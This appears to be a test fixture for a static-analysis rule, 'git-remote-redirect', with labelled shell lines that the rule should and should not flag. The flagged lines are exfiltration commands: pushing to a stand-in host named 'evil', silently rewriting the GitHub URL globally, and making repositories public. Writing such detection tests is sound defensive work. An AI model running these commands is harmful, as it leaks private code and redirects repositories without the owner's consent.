#!/bin/bash
# ruleid: shell/git-remote-redirect
git remote set-url origin https://github.com/other/x.git
# ruleid: shell/git-remote-redirect
git remote add evil https://x.example/r.git && git push evil main
# ruleid: shell/git-remote-redirect
git push https://x.example/r.git HEAD
# ruleid: shell/git-remote-redirect
git push git@github.com:other/x.git main
# ruleid: shell/git-remote-redirect
git config --global url.https://x.example/.insteadOf https://github.com/
# ruleid: shell/git-remote-redirect
gh repo create x --public --source=. --push
# ruleid: shell/git-remote-redirect
gh repo edit --visibility public
# ruleid: shell/git-remote-redirect
gh api -X PATCH repos/o/r -f visibility=public

# ok: shell/git-remote-redirect
git remote -v
# ok: shell/git-remote-redirect
git push origin main
# ok: shell/git-remote-redirect
git push -u origin feature
# ok: shell/git-remote-redirect
gh repo view
# ok: shell/git-remote-redirect
gh repo clone o/r
# ok: shell/git-remote-redirect
git fetch upstream
# ok: shell/git-remote-redirect
git config url.x
# ok: shell/git-remote-redirect
git remote add upstream https://github.com/org/x.git
